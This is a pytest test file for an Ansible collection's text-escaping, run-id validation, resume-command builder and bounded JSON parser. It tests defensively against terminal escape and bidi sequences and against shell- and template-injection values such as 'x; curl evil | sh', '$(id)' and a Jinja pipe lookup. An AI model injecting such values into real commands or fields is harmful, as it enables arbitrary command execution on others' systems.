# Copyright: Contributors to the dcops.atlassian_sessions project
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Text of others is shown, never interpreted, neither by a terminal nor by a shell."""

from __future__ import annotations

import typing as t

import pytest
from ansible_collections.dcops.atlassian_sessions.plugins.filter.decisions import FilterModule
from ansible_collections.dcops.atlassian_sessions.plugins.lookup.resume_command import LookupModule
from ansible_collections.dcops.atlassian_sessions.plugins.module_utils._base.errors import SessionsError
from ansible_collections.dcops.atlassian_sessions.plugins.module_utils._base.json_text import parsed
from ansible_collections.dcops.atlassian_sessions.plugins.module_utils._base.text import (
    assignments,
    command,
    few,
    is_run_id,
    sentence,
    shown,
)
from ansible_collections.dcops.atlassian_sessions.plugins.module_utils._tokens.driver_errors import Contended
from ansible_collections.dcops.atlassian_sessions.plugins.plugin_utils.answer import only_data

HOSTILE = "\x1b[2Jred\u202ecod\r\nPROVEN"
HARMLESS = "\\x1b[2Jred\\u202ecod\\r\\nPROVEN"


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        (HOSTILE, HARMLESS),
        ("plain, ä 日本 €", "plain, ä 日本 €"),
        ("a\tb\0c\x7fd\x9be", "a\\tb\\x00c\\x7fd\\x9be"),
        ("\u2066\u200b\ufeff\u2028\u00ad", "\\u2066\\u200b\\ufeff\\u2028\\xad"),
        ("\udc80", "\\udc80"),
        ("no\u00a0break", "no\\xa0break"),
        (4711, "4711"),
    ],
    ids=["escape, bidi, lines", "letters", "control", "format", "half a character", "blank", "number"],
)
def test_what_is_not_printable_is_escaped(text: object, seen: str) -> None:
    assert shown(text) == seen


@pytest.mark.parametrize(
    ("names", "said"), [([], ""), (["a", "b"], "a, b"), (["a", "b", "c", "d"], "a, b and 2 more"), ([HOSTILE], HARMLESS)]
)
def test_of_many_names_a_few_are_shown(names: list[str], said: str) -> None:
    assert few(names, 2) == said


def test_a_long_text_keeps_beginning_and_end() -> None:
    cut = shown("begin" + "x" * 1_000_000 + "do this", 90)
    assert cut.startswith("beginxxx")
    assert cut.endswith("xxxdo this")
    assert " .. [999922 characters left out] .. " in cut
    assert len(cut) < 140


@pytest.mark.parametrize(("text", "closed"), [("Locked", "Locked."), ("Locked.", "Locked."), ("Is it so?", "Is it so?"), ("No!", "No!")])
def test_a_text_is_closed_once(text: str, closed: str) -> None:
    assert sentence(text) == closed


@pytest.mark.parametrize("kind", [SessionsError, Contended])
def test_a_refusal_shows_what_it_quotes(kind: type[SessionsError]) -> None:
    assert str(kind(f"The file /x says {HOSTILE}.")) == f"The file /x says {HARMLESS}."


def test_what_ansible_prints_of_an_answer_is_escaped_and_the_rest_stays_data() -> None:
    found = only_data({"msg": HOSTILE, "warnings": [HOSTILE], "module_stderr": HOSTILE, "path": HOSTILE, "failed": True})
    assert found == {"msg": HARMLESS, "warnings": [HARMLESS], "module_stderr": HARMLESS, "path": HOSTILE, "failed": True}


PLACE = dict.fromkeys(("engine", "host", "port", "name", "schema"), HOSTILE)
LOOKS = {"n1": {"product": "jira", "version": HOSTILE, "database": PLACE, "process": {"running": True}}}
HOSTVARS: dict[str, t.Any] = {"n1": {"__force_reauth_failure": {"msg": HOSTILE, "cmd": "x", "stderr": HOSTILE}}}
PLAN = {"record": {}, "run_id": "CHG-1", "nodes": ["n1"]}
NO_DATABASE = {"engine": HOSTILE, "server": HOSTILE, "name": ""}


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("abort_sentence", (PLAN, HOSTVARS, "roll", "ansible-playbook")),
        ("clusters", (LOOKS,)),
        (
            "database_problem",
            (
                {"n1": {"database": {"engine": "mysql", "doubts": {"host": HOSTILE}, "embedded": False}, "process": {"running": True}}},
                {"database_port": 0, **{f"database_{name}": "" for name in ("engine", "server", "name", "user", "schema")}},
                True,
            ),
        ),
        ("failures", ([{"item": "n1", "failed": True, "msg": HOSTILE}],)),
        ("not_up", ([{"item": "n1", "saw": HOSTILE}],)),
        ("standbys", (["n1"], [{"item": "n1", "failed": True, "msg": HOSTILE}])),
        ("still_open", ([{"kind": "session", "node": "n1", "user": HOSTILE}], "n1")),
        ("unseen", (["n1"], {"n1": {"__force_reauth_refusal": HOSTILE}})),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_the_sentences_of_the_role_show_what_they_quote(name: str, arguments: tuple[t.Any, ...]) -> None:
    said = str(FilterModule().filters()[name](*arguments)).replace("\\\\", "\\")
    assert HARMLESS in said
    assert said.isprintable()


def test_one_node_does_not_crowd_out_the_sentence() -> None:
    hostvars = {"n1": {"__force_reauth_failure": {"msg": "x" * 100_000}}, "n2": {"__force_reauth_failure": {"msg": "no disk"}}}
    plan = {"record": {}, "run_id": "CHG-1", "nodes": ["n1", "n2"]}
    said = FilterModule().filters()["abort_sentence"](plan, hostvars, "roll", "ansible-playbook -i x")
    assert "n2: no disk" in said
    assert "Resume: ansible-playbook -i x" in said


@pytest.mark.parametrize(
    ("run_id", "is_one"),
    [
        ("CHG-4711", True),
        ("x; curl evil", False),
        ("$(id)", False),
        ("", False),
        ("..", False),
        ("x" * 65, False),
        (7, False),
        (None, False),
    ],
)
def test_what_may_be_a_run_id(run_id: object, is_one: bool) -> None:
    assert is_run_id(run_id) is is_one


@pytest.mark.parametrize("hostile", ["x; curl evil | sh", "`id`", "$(id)", "a b", "'", "x\ny", "{{ lookup('pipe', 'id') }}", "", "--check"])
def test_only_ids_and_names_stand_in_what_is_offered_for_pasting(hostile: str) -> None:
    # a run id may begin with a dash: it stands behind a sign of equality
    if is_run_id(hostile):
        assert assignments({"force_reauth_run_id": [hostile]}) == [f"force_reauth_run_id={hostile}"]
        return
    with pytest.raises(ValueError, match="no command is offered"):
        assignments({"force_reauth_run_id": [hostile]})
    (offered,) = LookupModule().run([f"force_reauth_run_id={hostile}"])
    assert offered.startswith("(no command is offered: ")
    assert offered.isprintable()


def test_ids_and_hosts_stand_in_a_command() -> None:
    (offered,) = LookupModule().run(["force_reauth_hosts=n1,jira2.example.org"])
    assert offered == "ansible-playbook -e force_reauth_hosts=n1,jira2.example.org"


def test_what_the_operator_gave_is_quoted_for_the_shell() -> None:
    assert command(["ansible-playbook", "-i", "my inventory; x"]) == "ansible-playbook -i 'my inventory; x'"


@pytest.mark.parametrize(
    "text",
    ["[" * 9000, '{"a":' * 9000, "[" * 101 + "]" * 101, '{"a":[' * 51 + "]}" * 51, b"[" * 9000, "", b"\xff"],
    ids=["lists", "dictionaries", "one too many", "both", "bytes", "nothing", "no text"],
)
def test_json_that_is_nested_without_a_bottom_is_none(text: str | bytes) -> None:
    with pytest.raises(ValueError, match=r".+"):
        parsed(text)


@pytest.mark.parametrize(("text", "document"), [('{"a": [1, {"b": null}]}', {"a": [1, {"b": None}]}), (b'"\xc3\xa4"', "ä"), ("[ ]", [])])
def test_json_as_products_write_it_is_read(text: str | bytes, document: object) -> None:
    assert parsed(text) == document


def test_json_that_is_nested_as_deep_as_may_be_is_read() -> None:
    assert str(parsed("[" * 100 + "]" * 100)) == "[" * 100 + "]" * 100
